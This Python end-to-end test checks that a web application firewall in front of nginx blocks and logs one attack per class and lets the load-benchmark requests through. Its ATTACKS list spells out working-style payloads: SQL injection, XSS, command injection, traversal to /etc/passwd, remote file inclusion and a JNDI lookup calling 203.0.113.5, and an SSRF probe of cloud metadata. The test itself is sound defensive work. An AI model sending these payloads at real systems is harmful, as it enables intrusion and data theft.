"""Whole-system test of the shipped rule and list files: the installed service,
blocking, in front of nginx, closes one attack of each class and passes the
request shapes of the load benchmark."""

import os
import sys
import unittest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import service_e2e_test as base  # noqa: E402  (takes the program arguments off sys.argv)

BROWSER = ("User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/124.0.0.0 Safari/537.36\r\n"
           "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
           "Accept-Language: en-US,en;q=0.9\r\n")

# One attack of each class the shipped rules cover: (class, method, target,
# extra header lines, form body).
ATTACKS = [
    ("sql injection", "GET", "/item?id=1%27%20or%20%271%27%3D%271", "", ""),
    ("cross-site scripting", "GET", "/search?q=%3Csvg%20onload%3Dalert(1)%3E", "", ""),
    ("command injection", "POST", "/ping", "", "host=127.0.0.1%3Bcat+%2Fetc%2Fhostname"),
    ("path traversal", "GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "", ""),
    ("remote file inclusion", "GET", "/index.php?page=http%3A%2F%2F203.0.113.5%2Fshell.txt%3F",
     "", ""),
    ("php injection", "GET", "/?code=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B", "", ""),
    ("java injection", "GET", "/", "User-Agent: ${jndi:ldap://203.0.113.5/a}\r\n", ""),
    ("template injection", "GET", "/hello?name=%7B%7B7*7%7D%7D", "", ""),
    ("server-side include", "GET", "/?x=%3C!--%23exec%20cmd%3D%22id%22--%3E", "", ""),
    ("ssrf", "GET", "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "", ""),
    ("nosql injection", "GET", "/login?user=%7B%22%24ne%22%3A%201%7D", "", ""),
    ("ldap injection", "GET", "/people?cn=*)(uid%3D*))(%7C(uid%3D*", "", ""),
    ("crlf injection", "GET", "/go?next=%2F%0d%0aSet-Cookie%3A%20a%3D1", "", ""),
    ("scanner", "GET", "/", "User-Agent: sqlmap/1.8#stable (https://sqlmap.org)\r\n", ""),
    ("protocol abuse", "TRACE", "/", "", ""),
    ("hidden file", "GET", "/.git/config", "", ""),
]

# The three request shapes of the load benchmark.
BENCHMARK = [
    ("static", "GET /index.html HTTP/1.1\r\nHost: localhost\r\n"),
    ("query", "GET /search.php?q=hello+world&page=2&sort=asc&lang=en&id=12345 HTTP/1.1\r\n"
              "Host: localhost\r\n" + BROWSER + "Accept-Encoding: gzip, deflate\r\n"
              "Cookie: sessionid=3f9a1c0e7b2d4a6f8e1c5b7d9a0f2e4c; theme=dark; "
              "csrftoken=Zx8kQ2mN7pL4vR9tY1wE6uI3oA5sD0fG\r\n"),
]
FORM = ("username=alice.smith%40example.com&password=CorrectHorseBatteryStaple42&remember_me=1"
        "&csrf_token=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
        "&redirect_to=%2Faccount%2Fdashboard&client_tz=Europe%2FBerlin&screen=1920x1080"
        "&lang=en-US&device_id=6f1c2a9e-4b7d-4e3a-9c5f-1d2e3f4a5b6c&notes=")


def form_body():
    body = FORM
    while len(body) < 1024:
        body += "the+quick+brown+fox+jumps+over+the+lazy+dog+"
    return body[:1023] + "x"


class ShippedInstallation(base.Installation):
    """A program folder that keeps the shipped rule and list files."""

    def _configure(self, run_mod, settings):
        with open(os.path.join(self.app, "ostrum.cfg"), "a") as cfg:
            cfg.write(f"run_mod={run_mod}\nfilt_http_port={self.port}\n{settings}")
        with open(os.path.join(self.app, "netfilter2", "netfilter.ini"), "w") as f:
            f.write(f"[upstream]\n{self.port}=127.0.0.1:{self.web_port}\n"
                    "[setting]\nlisten=127.0.0.1\nthreads=2\n")


def request(method, target, headers="", body=""):
    text = f"{method} {target} HTTP/1.1\r\nHost: localhost\r\n{headers}"
    if body:
        text += ("Content-Type: application/x-www-form-urlencoded\r\n"
                 f"Content-Length: {len(body)}\r\n")
    return (text + "Connection: close\r\n\r\n" + body).encode()


@unittest.skipUnless(os.access(base.NGINX, os.X_OK), "nginx is not installed")
class ShippedRules(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.site = ShippedInstallation(run_mod=1, settings="block_when_conn=0\n")
        cls.site.start()

    @classmethod
    def tearDownClass(cls):
        cls.site.close()

    def attack_lines(self):
        return [l for l in self.site.log("attack").split("\r\n") if l and not l.startswith("#")]

    def test_the_shipped_files_load_whole(self):
        self.assertNotIn("faild", self.site.log("ostrum.log"))

    def test_one_attack_of_each_class_is_closed_and_logged(self):
        for name, method, target, headers, body in ATTACKS:
            with self.subTest(name):
                before = len(self.attack_lines())
                answer = base.exchange(self.site.port, request(method, target, headers, body))
                self.assertEqual(answer, b"", answer[:80])
                self.assertTrue(base.wait_for(lambda: len(self.attack_lines()) > before))
                self.assertIn("|block", self.attack_lines()[-1])

    def test_the_load_benchmark_shapes_pass(self):
        before = len(self.attack_lines())
        shapes = [(name, (head + "Connection: close\r\n\r\n").encode()) for name, head in BENCHMARK]
        body = form_body()
        shapes.append(("form", request("POST", "/login.php", BROWSER, body)))
        for name, raw in shapes:
            with self.subTest(name):
                answer = base.exchange(self.site.port, raw)
                self.assertTrue(answer.startswith(b"HTTP/1.1 "), answer[:80])
        self.assertEqual(len(self.attack_lines()), before, self.attack_lines()[before:])


if __name__ == "__main__":
    unittest.main()
